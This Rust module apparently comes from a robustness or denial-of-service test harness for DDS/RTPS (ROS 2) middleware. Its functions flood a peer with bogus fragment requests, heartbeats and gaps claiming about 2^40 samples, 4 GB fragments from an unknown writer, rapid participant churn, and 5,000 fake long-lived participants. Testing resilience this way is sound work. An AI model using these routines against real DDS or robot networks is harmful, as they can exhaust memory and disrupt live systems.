//! Attacks with RTPS packets, each bounded in number and time.

use std::net::Ipv4Addr;
use std::time::Duration;

use crate::peer::Peer;
use crate::wire::{
    Message, PUBLICATIONS_READER, PUBLICATIONS_WRITER, Prefix, SPDP_READER, SPDP_WRITER,
    SUBSCRIPTIONS_READER, SUBSCRIPTIONS_WRITER, announcement, endpoint, guid, made_up,
};

fn pause(milliseconds: u64) {
    std::thread::sleep(Duration::from_millis(milliseconds));
}

/// Asks for fragment 0, which does not exist.
pub(crate) fn fragment_zero(peer: &Peer) {
    for count in 0..200 {
        for number in 1..5 {
            let message = Message::from(peer.prefix);
            let (reader, writer) = (PUBLICATIONS_READER, PUBLICATIONS_WRITER);
            peer.send(&message.nack_frag(reader, writer, number, 0, 32, &[u32::MAX], count));
        }
        pause(5);
    }
}

/// Announces samples up to 2^40.
pub(crate) fn heartbeat_of_many(peer: &Peer) {
    for count in 1..200 {
        let message = Message::from(peer.prefix);
        peer.send(&message.heartbeat(PUBLICATIONS_READER, PUBLICATIONS_WRITER, 1, 1 << 40, count));
        pause(10);
    }
}

/// Declares samples up to 2^40 irrelevant.
pub(crate) fn gap_of_many(peer: &Peer) {
    for _ in 0..200 {
        let message = Message::from(peer.prefix);
        peer.send(&message.gap(PUBLICATIONS_READER, PUBLICATIONS_WRITER, 5, 1 << 40, 0, &[]));
        pause(10);
    }
}

/// Fragments of samples of 4 GB, of an unknown writer.
pub(crate) fn fragment_of_an_unknown_writer(peer: &Peer) {
    for number in 1..200 {
        let message = Message::from(made_up(peer.number + 1));
        let (reader, writer) = (PUBLICATIONS_READER, PUBLICATIONS_WRITER);
        peer.send(&message.data_frag(reader, writer, number, 1, 1, 0xffff, 0xffff_fff0, &[0; 1024]));
        pause(10);
    }
}

/// 500 peers start and end, one after the other, half of them without announcing their end.
pub(crate) fn restarts_of_a_peer(peer: &Peer) {
    const ENDPOINTS: u32 = 12;
    for batch in 0..25 {
        let first = peer.number + 1000 + batch * 20;
        let restarts = || (first..first + 20).map(made_up);
        restarts().for_each(|prefix| peer.send(&announcement(prefix, peer.address, 1)));
        pause(250);
        for prefix in restarts() {
            for number in (1..=ENDPOINTS).step_by(4) {
                let topics = (number..number + 4).map(|number| (number, format!("rt/topic_{number}")));
                peer.send(&endpoints(prefix, topics));
            }
        }
        pause(250);
        for prefix in restarts().step_by(2) {
            let key = guid(prefix, [0, 0, 1, 0xc1]);
            peer.send(&Message::from(prefix).dispose(SPDP_READER, SPDP_WRITER, 2, key));
        }
    }
    // The leases of the others expire.
    pause(4000);
}

/// A writer and a reader of each topic, whose numbers count from 1.
pub(crate) fn endpoints(prefix: Prefix, topics: impl Iterator<Item = (u32, String)>) -> Message {
    let mut message = Message::from(prefix);
    for (number, topic) in topics {
        let [.., a, b] = number.to_be_bytes();
        let (writer, reader) = (guid(prefix, [1, a, b, 3]), guid(prefix, [2, a, b, 4]));
        let about = |guid| endpoint(guid, &topic, "std_msgs::msg::dds_::String_");
        message = message.data(PUBLICATIONS_READER, PUBLICATIONS_WRITER, number.into(), &about(writer)).data(
            SUBSCRIPTIONS_READER,
            SUBSCRIPTIONS_WRITER,
            number.into(),
            &about(reader),
        );
    }
    message
}

/// 5,000 participants that stay for a day.
pub(crate) fn false_participants(peer: &Peer) {
    for number in 0..5000 {
        let address = (Ipv4Addr::LOCALHOST, 20_000 + number as u16);
        peer.send(&announcement(made_up(peer.number + 10_000 + number), address, 86_400));
        if number % 20 == 0 {
            pause(8);
        }
    }
}
